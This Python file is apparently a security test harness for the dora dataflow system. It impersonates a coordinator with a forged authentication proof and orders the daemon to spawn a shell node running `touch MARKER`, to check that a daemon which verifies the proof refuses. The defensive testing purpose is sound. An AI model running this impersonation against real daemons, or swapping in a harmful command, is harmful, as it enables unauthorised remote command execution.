"""A fake coordinator, as an attacker on the coordinator's address would run it (issue 11).

It speaks the control plane's framing (u32 little-endian length + JSON) and the hello, but does not
know the cluster token: it asks for the daemon's proof, starts TLS as a real coordinator does (with
a certificate of its own: TLS alone proves nothing), answers with a made-up proof (or, with
--no-token, claims to need none; with --no-tls, keeps the link plain), then orders a dataflow whose
only node runs `touch MARKER` on the daemon's machine. A daemon that checks the coordinator's proof
must register nothing and spawn nothing. Prints what the daemon sent, one message type per line.

    fake_coordinator.py HOST PORT MARKER MACHINE SECONDS [--no-token | --no-tls]
"""
import json
import os
import socket
import ssl
import struct
import subprocess
import sys
import tempfile
import time


def send(conn, message):
    body = json.dumps(message).encode()
    conn.sendall(struct.pack("<I", len(body)) + body)


def receive(conn):
    def exactly(n):
        data = b""
        while len(data) < n:
            chunk = conn.recv(n - len(data))
            if not chunk:
                raise EOFError
            data += chunk
        return data
    (length,) = struct.unpack("<I", exactly(4))
    if length > 1 << 20:
        raise EOFError
    return json.loads(exactly(length))


def tls_context(directory):
    key, cert = os.path.join(directory, "key.pem"), os.path.join(directory, "cert.pem")
    subprocess.run(["openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt",
                    "ec_paramgen_curve:P-256", "-nodes", "-subj", "/CN=dora-coordinator",
                    "-days", "1", "-keyout", key, "-out", cert], check=True,
                   capture_output=True)
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(cert, key)
    return context


def serve(conn, marker, machine, token_required, context):
    conn.settimeout(2)
    send(conn, {"type": "hello.challenge", "protocol": 4, "dora_version": "fake",
                "nonce": os.urandom(32).hex(), "token_required": token_required,
                "tls": context is not None})
    if context is not None:
        conn = context.wrap_socket(conn, server_side=True)
    print(receive(conn)["type"], flush=True)
    send(conn, {"type": "hello.welcome", "proof": "00" * 32})
    dataflow = "01930000-0000-7000-8000-000000000bad"
    yaml = ("nodes:\n  - {id: pwn, path: shell, args: \"touch %s\", "
            "_unstable_deploy: {machine: %s}}\n" % (marker, machine))
    send(conn, {"type": "coordinator.prepare", "dataflow_id": dataflow, "name": "pwn",
                "descriptor_yaml": yaml, "descriptor_path": "/tmp/pwn.yml", "cli_machine": "",
                "placement": {}, "stream_end_keys": {}})
    send(conn, {"type": "coordinator.spawn", "dataflow_id": dataflow})
    try:
        while True:
            print(receive(conn)["type"], flush=True)
    except (EOFError, OSError, ValueError):
        pass


def main():
    host, port, marker, machine, seconds = sys.argv[1:6]
    token_required = "--no-token" not in sys.argv[6:]
    use_tls = token_required and "--no-tls" not in sys.argv[6:]
    context = tls_context(tempfile.mkdtemp()) if use_tls else None
    listener = socket.create_server((host, int(port)))
    listener.settimeout(1)
    print("listening", flush=True)
    deadline = time.monotonic() + float(seconds)
    while time.monotonic() < deadline:
        try:
            conn, _ = listener.accept()
        except socket.timeout:
            continue
        with conn:
            try:
                serve(conn, marker, machine, token_required, context)
            except (EOFError, OSError, ValueError, KeyError, ssl.SSLError):
                pass


if __name__ == "__main__":
    main()
